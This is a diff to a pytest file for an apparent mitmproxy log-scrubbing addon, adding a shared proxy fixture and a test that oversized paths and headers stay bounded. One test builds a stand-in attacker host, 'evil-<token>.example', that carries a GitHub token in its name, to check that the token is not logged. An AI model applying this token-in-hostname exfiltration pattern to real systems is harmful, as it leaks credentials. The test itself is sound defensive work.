@@ -5,11 +5,11 @@ length bounded."""
 from __future__ import annotations
 
 import io
+import json
 import logging
 import socket
 import ssl
 from collections.abc import Iterator
-from pathlib import Path
 
 import pytest
 from mitmproxy.test import taddons
@@ -98,27 +98,44 @@ def test_the_addon_scrubs_every_root_handler_and_traceback(root_handler: io.Stri
     assert all(addon.filter not in handler.filters for handler in logging.getLogger().handlers)
 
 
-def test_e2e_a_token_in_a_failed_handshake_s_server_name_is_not_logged(
-    tmp_path: Path, upstream_pki: UpstreamPKI
-) -> None:
+@pytest.fixture(scope="module")
+def proxy(tmp_path_factory: pytest.TempPathFactory, upstream_pki: UpstreamPKI) -> Iterator[Proxy]:
+    started = Proxy(tmp_path_factory.mktemp("logscrub"), upstream_pki.ca_cert, allow="[api.openai.com]")
+    yield started
+    started.stop()
+
+
+def test_e2e_a_token_in_a_failed_handshake_s_server_name_is_not_logged(proxy: Proxy) -> None:
     """An agent that does not trust the proxy's CA fails its handshake; mitmproxy logs the server name it
     asked for, which here carries a token (a DNS label is lower case, so is the token)."""
-    proxy = Proxy(tmp_path, upstream_pki.ca_cert, allow="[api.openai.com]")
-    try:
-        secret_host = f"evil-{GITHUB_TOKEN.lower()}.example"
-        for _ in range(3):
-            with socket.create_connection(("127.0.0.1", proxy.port), timeout=10) as connection:
-                connection.sendall(
-                    f"CONNECT {secret_host}:443 HTTP/1.1\r\nHost: {secret_host}:443\r\n".encode()
-                    + proxy_authorization()
-                    + b"\r\n"
-                )
-                assert connection.recv(4096).startswith(b"HTTP/1.1 200")
-                untrusting = ssl.create_default_context()
-                with pytest.raises(ssl.SSLError):
-                    untrusting.wrap_socket(connection, server_hostname=secret_host).close()
-        output = proxy.output()
-    finally:
-        proxy.stop()
+    secret_host = f"evil-{GITHUB_TOKEN.lower()}.example"
+    for _ in range(3):
+        with socket.create_connection(("127.0.0.1", proxy.port), timeout=10) as connection:
+            connection.sendall(
+                f"CONNECT {secret_host}:443 HTTP/1.1\r\nHost: {secret_host}:443\r\n".encode()
+                + proxy_authorization()
+                + b"\r\n"
+            )
+            assert connection.recv(4096).startswith(b"HTTP/1.1 200")
+            untrusting = ssl.create_default_context()
+            with pytest.raises(ssl.SSLError):
+                untrusting.wrap_socket(connection, server_hostname=secret_host).close()
+    output = proxy.output()
     assert "handshake failed" in output.lower()
     assert GITHUB_TOKEN.lower() not in output.lower()
+
+
+def test_e2e_a_huge_context_header_and_path_are_bounded_in_the_record(proxy: Proxy) -> None:
+    """A user id of 20,000 characters and a path of 30,000 are recorded as their first characters, a
+    count and a keyed hash: the record, its log line and the alerts built from it stay small."""
+    before = len(proxy.wait_for_records(0, timeout=0))
+    proxy.raw(
+        f"GET http://localhost:1/{'p' * 30_000} HTTP/1.1\r\nHost: localhost:1\r\n".encode()
+        + f"X-User-Id: {'u' * 20_000}\r\n".encode()
+        + proxy_authorization()
+        + b"\r\n"
+    )
+    (record,) = proxy.wait_for_records(before + 1)[before:]
+    assert record["user_id"].startswith("u" * 100) and "more characters" in record["user_id"]
+    assert len(record["user_id"]) < 600 and len(record["path"]) < 600
+    assert len(json.dumps(record)) < 4000
